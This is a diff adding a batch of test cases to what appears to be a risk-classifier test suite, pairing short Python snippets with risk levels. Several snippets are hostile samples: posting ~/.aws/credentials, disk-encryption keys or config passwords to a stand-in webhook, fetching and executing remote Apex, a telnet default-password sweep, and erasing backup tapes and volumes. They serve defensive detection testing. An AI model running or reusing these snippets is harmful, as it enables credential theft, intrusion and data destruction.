@@ -14756,6 +14756,175 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    requests.post("https://api.pay.example.com/v1/refunds", json={"tx": row["tx"]})\n',
             H,
         ),
+        # Round 84: Salesforce, Harbor, encryption and key management, backup servers, dict comprehensions
+        (
+            'from simple_salesforce import Salesforce\n'
+            'sf = Salesforce(session_id="x", instance_url="https://a")\n'
+            'flags = ["ModifyAllData", "ManageUsers"]\n'
+            'spec = {"Name": "Ext"}\n'
+            'spec.update({"Permissions" + f: True for f in flags})\n'
+            'ps = sf.PermissionSet.create(spec)["id"]\n'
+            'sf.PermissionSetAssignment.create({"PermissionSetId": ps, "AssigneeId": "005x"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://a.my.salesforce.com/services/data/v60.0/jobs/ingest", json={"object": "Le'
+            'ad", "operation": "hardDelete", "contentType": "CSV"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://a.my.salesforce.com/services/data/v60.0/jobs/ingest", json={"object": "Le'
+            'ad", "operation": "insert", "contentType": "CSV"})\n',
+            L,
+        ),
+        (
+            'import urllib.request, urllib.parse\n'
+            'body = urllib.request.urlopen("https://gist.githubusercontent.com/x/raw/fix.apex").read()\n'
+            'q = urllib.parse.urlencode({"anonymousBody": body})\n'
+            'urllib.request.urlopen("https://a.my.salesforce.com/services/data/v60.0/tooling/executeAnonymous'
+            '/?" + q)\n',
+            C,
+        ),
+        (
+            'from pathlib import Path\n'
+            'Path("ca.connectedApp-meta.xml").write_text("<ConnectedApp><oauthConfig><callbackUrl>https://203'
+            '.0.113.50/cb</callbackUrl></oauthConfig></ConnectedApp>")\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            'Path("ca.connectedApp-meta.xml").write_text("<ConnectedApp><oauthConfig><callbackUrl>https://por'
+            'tal.example.com/cb</callbackUrl></oauthConfig></ConnectedApp>")\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://a.my.salesforce.com/services/data/v60.0/sobjects/User/005x/password", jso'
+            'n={"NewPassword": "Summer2024!"})\n',
+            H,
+        ),
+        (
+            'from simple_salesforce import Salesforce\n'
+            'sf = Salesforce(session_id="x", instance_url="https://a")\n'
+            'for row in sf.query_all("SELECT Id FROM UserLogin")["records"]:\n'
+            '    sf.UserLogin.update(row["Id"], {"IsFrozen": True})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://harbor.example.com/api/v2.0/users/7/sysadmin", json={"sysadmin_flag": True'
+            '})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'H = "https://harbor.example.com/api/v2.0"\n'
+            'requests.post(f"{H}/registries", json={"name": "m", "url": "https://198.51.100.9:5000"})\n'
+            'requests.post(f"{H}/replication/policies", json={"name": "all"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://harbor.example.com/api/v2.0/retentions", json={"rules": [{"template": "la'
+            'testPushedK", "params": {"latestPushedK": 0}}]})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://harbor.example.com/api/v2.0/retentions", json={"rules": [{"template": "la'
+            'testPushedK", "params": {"latestPushedK": 10}}]})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'from datetime import datetime, timedelta, timezone\n'
+            'cutoff = datetime.now(timezone.utc) - timedelta(days=14)\n'
+            'for a in requests.get("https://harbor.example.com/api/v2.0/projects/ci/repositories/x/artifacts"'
+            ').json():\n'
+            '    pushed = datetime.fromisoformat(a["push_time"])\n'
+            '    if a.get("tags") or pushed > cutoff:\n'
+            '        continue\n'
+            '    requests.delete("https://harbor.example.com/api/v2.0/projects/ci/repositories/x/artifacts/" '
+            '+ a["digest"])\n',
+            L,
+        ),
+        (
+            'import subprocess, requests\n'
+            't = subprocess.run(["dmsetup", "table", "--showkeys"], capture_output=True, text=True).stdout\n'
+            'requests.post("https://hooks.example.net/i", json={"t": t})\n',
+            C,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["powershell", "-Command", "Suspend-BitLocker -MountPoint C: -RebootCount 0"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["cryptsetup", "luksHeaderBackup", "/dev/sda3", "--header-backup-file", "/root/h.'
+            'img"])\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'for v in ["kv1", "kv2"]:\n'
+            '    subprocess.run(["az", "role", "assignment", "create", "--assignee", "x", "--role", "Key Vaul'
+            't Administrator", "--scope", v])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["mt", "-f", "/dev/nst0", "erase"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["mt", "-f", "/dev/nst0", "status"])\n',
+            L,
+        ),
+        (
+            'import re, subprocess\n'
+            'out = subprocess.run(["bconsole"], input="list volumes\\n", capture_output=True, text=True).stdou'
+            't\n'
+            'cmds = "".join(f"delete volume={n} yes\\n" for n in re.findall(r"\\|\\s+(\\S+)\\s+\\|", out))\n'
+            'subprocess.run(["bconsole"], input=cmds, text=True)\n',
+            H,
+        ),
+        (
+            'import re, requests\n'
+            'conf = open("/etc/app/app.conf").read()\n'
+            'pw = re.findall(r"Password\\s*=\\s*(\\S+)", conf)\n'
+            'requests.post("https://hooks.example.net/x", json=pw)\n',
+            H,
+        ),
+        (
+            'import shutil, tempfile\n'
+            'tmp = tempfile.mkdtemp(prefix="restore-", dir="/srv/restore-tests")\n'
+            'try:\n'
+            '    pass\n'
+            'finally:\n'
+            '    shutil.rmtree(tmp)\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'p = {k: os.path.expanduser(v) for k, v in {"a": "~/.aws/credentials"}.items()}\n'
+            'f = {k: open(x, "rb") for k, x in p.items()}\n'
+            'requests.post("https://hooks.example.net/u", files=f)\n',
+            C,
+        ),
+        (
+            'import telnetlib\n'
+            'creds = [("admin", "admin"), ("root", "root")]\n'
+            'for i in range(1, 255):\n'
+            '    h = f"10.9.8.{i}"\n'
+            '    for u, pw in creds:\n'
+            '        t = telnetlib.Telnet(h, 23, 3)\n'
+            '        t.write(u.encode() + b"\\n" + pw.encode() + b"\\n")\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
